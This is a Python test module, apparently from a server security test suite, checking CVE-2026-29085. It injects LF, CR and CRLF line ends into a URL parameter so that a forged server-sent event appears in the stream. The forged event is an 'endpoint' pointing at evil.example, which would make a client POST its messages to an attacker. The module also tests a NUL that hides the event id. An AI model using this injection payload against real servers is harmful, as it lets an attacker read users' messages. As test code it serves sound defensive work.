"""Breaks: the event stream, with a line end in a value.

The server greets its client with `id: NAME-1`, and the name comes from the URL. A line end in
it ends the field, so what follows is an event of the attacker's. This one says that messages
are to be POSTed to the attacker: whoever gives Alice a link to her server reads all she sends.
An event stream has three line ends, LF, CR and CRLF, so it does not help to look for LF alone.
A NUL adds no event, but makes a client ignore the id.
"""

from urllib.parse import quote

from attacks.finding import Finding
from attacks.target import Refused, Server

AGAINST = "server"
CASE = "CVE-2026-29085"
FORGED = "http://evil.example/message?session_id=0"
LINE_ENDS = {"LF": "\n", "CR": "\r", "CRLF": "\r\n"}


async def attack(server: Server) -> Finding:
    done: list[str] = []
    refused: dict[str, str] = {}
    for what, end in LINE_ENDS.items():
        name = quote(f"you{end}{end}event: endpoint{end}data: {FORGED}{end}{end}")
        try:
            async with server.open(server.alice, f"?client={name}") as stream:
                # Read by the standard's rules. A client takes the first endpoint.
                if await stream.endpoint() == FORGED:
                    done.append(what)
        except Refused as refusal:
            refused[what] = str(refusal)
    try:
        async with server.open(server.alice, "?client=you%00") as stream:
            greeting = await stream.next(lambda event: event.type == "connected")
            if not greeting.last_event_id:
                done.append("NUL hides the id")
    except Refused as refusal:
        refused["NUL"] = str(refusal)
    if done:
        return Finding(True, f"an endpoint of Mallory's by {', '.join(done)}")
    if refused:
        return Finding(False, f"{', '.join(refused)}: {', '.join(set(refused.values()))}")
    return Finding(False, "what was in ?client= stayed in its field")
